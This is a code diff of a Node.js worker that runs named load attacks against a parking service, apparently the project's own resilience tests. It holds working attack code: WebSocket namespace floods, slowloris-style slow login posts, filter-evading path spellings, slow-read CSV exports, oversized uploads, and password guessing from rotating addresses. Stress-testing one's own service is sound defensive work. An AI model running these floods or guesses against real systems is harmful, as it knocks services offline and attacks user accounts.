@@ -8,89 +8,51 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { workerData } from 'node:worker_threads';
 import { gzipSync } from 'node:zlib';
+import { CARRIER, WRONG, logIn, logInWorking } from './logins.mjs';
 
-const { attack, url, connections, token, ownerToken, teamToken, localAddress } = workerData;
+const { attack, url, connections, localAddress } = workerData;
+const { token, ownerToken, teamToken, victim, own } = workerData;
 const { hostname, port } = new URL(url);
-const AT_ONCE = 50;
-/** Clients of one account with long lists. */
-const CLIENTS = 12;
-/** Uploads of one team at once. */
-const UPLOADS = 30;
 const DAY_MS = 24 * 3_600_000;
 
-/** Opens a connection again whenever it ends, a moment later. */
-function again(open) {
-  const socket = connect({ host: hostname, port: Number(port), localAddress });
-  socket.on('error', () => undefined);
-  socket.on('close', () => setTimeout(() => again(open), 50));
-  socket.on('connect', () => open(socket));
+/** Opens so many connections, each again a moment after it ends. */
+function connectTimes(count, open) {
+  const again = () => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress });
+    socket.on('error', () => undefined);
+    socket.on('close', () => setTimeout(again, 50));
+    socket.on('connect', () => open(socket));
+  };
+  for (let n = 0; n < count; n += 1) again();
 }
 
 /** A frame of a WebSocket as a client sends it, masked with zeros. */
 function frame(text) {
   const length = Buffer.byteLength(text);
-  const head =
-    length < 126 ? [0x81, 0x80 | length] : [0x81, 0x80 | 126, length >> 8, length & 0xff];
-  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), Buffer.from(text)]);
+  const short = length < 126;
+  const head = short ? [0x80 | length] : [0x80 | 126, length >> 8, length & 0xff];
+  return Buffer.concat([Buffer.from([0x81, ...head, 0, 0, 0, 0]), Buffer.from(text)]);
 }
 
-const UPGRADE = [
-  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
-  `host: ${hostname}:${port}`,
-  'connection: upgrade',
-  'upgrade: websocket',
-  'sec-websocket-version: 13',
-  'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
-  '',
-  '',
-].join('\r\n');
-
+const UPGRADE = `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${hostname}:${port}\r
+connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r
+sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
 const FLOOD = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));
 
-/** Asks for unknown namespaces as fast as the connection takes it. */
-function pourInto(socket) {
-  while (!socket.destroyed && socket.write(FLOOD));
-}
-
-/** Asks for unknown namespaces, and never reads an answer. */
-function neverRead(greeting) {
-  again((socket) => {
-    socket.pause();
+/** Asks for unknown namespaces as fast as the connection takes it, and reads the answers or never does. */
+const flooding =
+  ({ greeting, reads }) =>
+  (socket) => {
+    const pour = () => {
+      while (!socket.destroyed && socket.write(FLOOD));
+    };
+    if (reads) socket.resume();
+    else socket.pause();
     socket.write(UPGRADE);
     if (greeting) socket.write(frame(greeting));
-    socket.on('drain', () => pourInto(socket));
-    setTimeout(() => pourInto(socket), 200);
-  });
-}
-
-/** Sends an invalid token, waits for the refusal and connects again. */
-function junkToken(socket) {
-  socket.write(UPGRADE);
-  socket.write(frame('40{"token":"x.y.z"}'));
-  let received = '';
-  socket.on('data', (chunk) => {
-    received += chunk;
-    // Socket.IO's refusal of the connection.
-    if (received.includes('44{')) socket.destroy();
-  });
-}
-
-/** Asks for one unknown namespace after the other, reads the answers, and connects again. */
-function nameNamespaces(socket) {
-  socket.resume();
-  socket.write(UPGRADE);
-  socket.on('drain', () => pourInto(socket));
-  pourInto(socket);
-}
-
-/** Sends the headers of a login and then one byte a second. */
-function slowPost(socket) {
-  socket.write(
-    `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
-  );
-  const timer = setInterval(() => socket.write(' '), 1000);
-  socket.on('close', () => clearInterval(timer));
-}
+    socket.on('drain', pour);
+    setTimeout(pour, reads ? 0 : 200);
+  };
 
 /** One call; resolves when its answer has been read in whole, or failed. */
 function ask(path, { body, read = (answer) => answer.resume(), ...options }) {
@@ -107,108 +69,129 @@ function ask(path, { body, read = (answer) => answer.resume(), ...options }) {
 function forever(count, run) {
   for (let client = 0; client < count; client += 1)
     void (async () => {
-      for (let n = 0; ; n += 1) await run(n);
+      for (let n = 0; ; n += 1) await run(n, client);
     })();
 }
 
 /** Most expensive searches: most parkings, longest stay, sorted; every other one with words. */
-function expensivePath(n) {
-  const from = new Date(Date.now() + DAY_MS);
-  const query = new URLSearchParams({
-    near: '14.6,-90.5',
-    start_time: from.toISOString(),
-    end_time: new Date(from.getTime() + 30 * DAY_MS).toISOString(),
-    ...(n % 2 && { search: 'a e q u v 0' }),
+function search(spelt) {
+  const agent = new Agent({ keepAlive: true });
+  forever(50, (n) => {
+    const start = Date.now() + DAY_MS;
+    const query = new URLSearchParams({
+      near: '14.6,-90.5',
+      start_time: new Date(start).toISOString(),
+      end_time: new Date(start + 30 * DAY_MS).toISOString(),
+      ...(n % 2 && { search: 'a e q u v 0' }),
+    });
+    const path = spelt(`/api/parking/available?${query}`, n);
+    return ask(path, { agent, headers: { authorization: token } });
   });
-  return `/api/parking/available?${query}`;
 }
-
-/** Another spelling of a path, which a plain text comparison does not recognise. */
+/** Other spellings of a path, which a plain text comparison does not recognise. */
 const SPELLINGS = [
   (path) => path.replace('/api', '/%61pi'),
   (path) => `http://parqueo.gt${path}`,
   (path) => path.replace('available', '%61vailable'),
 ];
 
-/** Every list of a driver and of an owner. */
-const LISTS = {
-  driver: [
-    'documents/stays?limit=500',
-    'documents/confirmaciones',
-    'documents/booking',
-    'documents/parkings',
-  ],
-  owner: ['parking/reservations', 'parking/reservations?page=5', 'parking/my-parkings'],
-};
-
-const readLists = (agent, clients, paths, headers) =>
-  forever(clients, (n) =>
-    ask(`/api/${paths[n % paths.length]}`, {
-      agent,
-      headers: { 'accept-encoding': 'br', ...headers },
-    }),
-  );
+/** Reads every list of a driver or of an owner by turns. */
+function readLists(clients, paths, headers) {
+  const agent = new Agent({ keepAlive: true });
+  const sent = { 'accept-encoding': 'br', ...headers };
+  forever(clients, (n) => ask(`/api/${paths[n % paths.length]}`, { agent, headers: sent }));
+}
+const OF_DRIVER =
+  'documents/stays?limit=500 documents/confirmaciones documents/booking documents/parkings';
+const OF_OWNER = 'parking/reservations parking/reservations?page=5 parking/my-parkings'.split(' ');
+const asOwner = { authorization: ownerToken };
+const asSheet = { ...asOwner, accept: 'text/csv' };
+/** The longest allowed header, whose types the server compares with its own. */
+const LONG = { ...asOwner, accept: `${'text/x;q=0.1,'.repeat(550)}application/json` };
 
 /** An archive of nearly the largest allowed upload, with every byte to unpack. */
 function largeArchive() {
   const folder = mkdtempSync(join(tmpdir(), 'parqueo-archive-'));
-  try {
-    writeFileSync(join(folder, 'manifest.json'), '{}');
-    writeFileSync(join(folder, 'map.js'), randomBytes(19 * 1024 * 1024));
-    const tar = execFileSync('tar', ['-c', '-C', folder, '.'], { maxBuffer: 2 ** 30 });
-    // Random bytes cannot be compressed.
-    return gzipSync(tar, { level: 0 });
-  } finally {
-    rmSync(folder, { recursive: true });
-  }
+  writeFileSync(join(folder, 'manifest.json'), '{}');
+  writeFileSync(join(folder, 'map.js'), randomBytes(19 * 1024 * 1024));
+  const tar = execFileSync('tar', ['-c', '-C', folder, '.'], { maxBuffer: 2 ** 30 });
+  rmSync(folder, { recursive: true });
+  // Random bytes cannot be compressed.
+  return gzipSync(tar, { level: 0 });
 }
-
-/** Takes some kilobytes of an answer each second. */
-function sip(answer) {
-  const timer = setInterval(() => answer.read(4096), 1000);
-  return answer.once('close', () => clearInterval(timer));
-}
-
-/** The longest allowed Accept header, whose types the server compares with its own. */
-const LONG_ACCEPT = `${'text/x;q=0.1,'.repeat(550)}application/json`;
-
-/** Opens so many connections. */
-const times = (count, open) => Array.from({ length: count }, open);
-const keptOpen = () => new Agent({ keepAlive: true });
-const ofOwner = { authorization: ownerToken };
-const search = (spelt) => {
-  const agent = keptOpen();
-  const headers = { authorization: token };
-  forever(AT_ONCE, (n) => ask(spelt(expensivePath(n), n), { agent, headers }));
-};
 
 const ATTACKS = {
   sockets() {
-    times(20, () => neverRead(`40${JSON.stringify({ token })}`));
-    times(100, () => neverRead(null));
+    connectTimes(20, flooding({ greeting: `40${JSON.stringify({ token })}` }));
+    connectTimes(100, flooding({}));
   },
-  junk: () => times(connections, () => again(junkToken)),
-  namespaces: () => times(AT_ONCE, () => again(nameNamespaces)),
-  slow: () => times(connections, () => again(slowPost)),
+  namespaces: () => connectTimes(50, flooding({ reads: true })),
+  /** Invalid tokens; who is refused connects again. */
+  junk() {
+    connectTimes(connections, (socket) => {
+      socket.write(UPGRADE);
+      socket.write(frame('40{"token":"x.y.z"}'));
+      let received = '';
+      socket.on('data', (chunk) => {
+        received += chunk;
+        // Socket.IO's refusal of the connection.
+        if (received.includes('44{')) socket.destroy();
+      });
+    });
+  },
+  /** The headers of a login and then one byte a second. */
+  slow() {
+    const head = `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\n`;
+    connectTimes(connections, (socket) => {
+      socket.write(`${head}content-type: application/json\r\ncontent-length: 1000\r\n\r\n{`);
+      const timer = setInterval(() => socket.write(' '), 1000);
+      socket.on('close', () => clearInterval(timer));
+    });
+  },
   expensive: () => search((path) => path),
   spellings: () => search((path, n) => SPELLINGS[n % SPELLINGS.length](path)),
-  lists: () => readLists(keptOpen(), CLIENTS, LISTS.driver, { authorization: token }),
+  lists: () => readLists(12, OF_DRIVER.split(' '), { authorization: token }),
   sheets() {
-    const agent = keptOpen();
-    readLists(agent, CLIENTS, LISTS.owner, ofOwner);
+    readLists(12, OF_OWNER, asOwner);
     // The server produces two spreadsheets at a time at most.
-    readLists(agent, 2, ['parking/reservations'], { ...ofOwner, accept: 'text/csv' });
+    readLists(2, OF_OWNER.slice(0, 1), asSheet);
   },
-  headers: () => readLists(keptOpen(), CLIENTS, LISTS.owner, { ...ofOwner, accept: LONG_ACCEPT }),
+  headers: () => readLists(12, OF_OWNER, LONG),
+  /** Spreadsheets of which some kilobytes are taken each second. */
   csv() {
-    const headers = { ...ofOwner, accept: 'text/csv' };
-    forever(AT_ONCE, () => ask('/api/parking/reservations', { agent: false, headers, read: sip }));
+    const read = (answer) => {
+      const timer = setInterval(() => answer.read(4096), 1000);
+      return answer.once('close', () => clearInterval(timer));
+    };
+    const sheet = { agent: false, headers: asSheet, read };
+    forever(50, () => ask('/api/parking/reservations', sheet));
   },
+  /** Uploads of one team at once. */
   uploads() {
     const headers = { authorization: `Bearer ${teamToken}`, 'content-type': 'application/gzip' };
-    const body = largeArchive();
-    const upload = { method: 'POST', agent: false, headers, body };
-    forever(UPLOADS, () => ask('/api/registry/driver/builds', upload));
+    const upload = { method: 'POST', agent: false, headers, body: largeArchive() };
+    forever(30, () => ask('/api/registry/driver/builds', upload));
+  },
+  /**
+   * Passwords at many accounts from one carrier's address; at one account from everywhere, as fast as possible and
+   * with the proofs that refusals demand; from one site; and logins of many known devices of the guesser.
+   */
+  guesses() {
+    const guess = (mail, address) => ({ mail, address, password: WRONG });
+    let n = 0;
+    setInterval(() => {
+      n += 1;
+      void logIn(url, guess(`nadie${n}@ejemplo.gt`, CARRIER));
+      void logIn(url, guess(victim, `198.51.${n % 200}.7`));
+    }, 100);
+    // Each from its own network within the site.
+    forever(60, (_, place) =>
+      logIn(url, guess(`sitio${place}.${n}@ejemplo.gt`, `2001:db8:77:${place.toString(16)}::1`)),
+    );
+    // Each proof costs a tenth of a second of a core.
+    forever(2, (_, place) => logInWorking(url, guess(victim, `198.52.${n % 200}.${place}`)));
+    // The right passwords, so that no failure counts against the devices.
+    forever(own.length, (_, place) => logIn(url, { ...own[place], address: CARRIER }));
   },
 };
 ATTACKS[attack]();
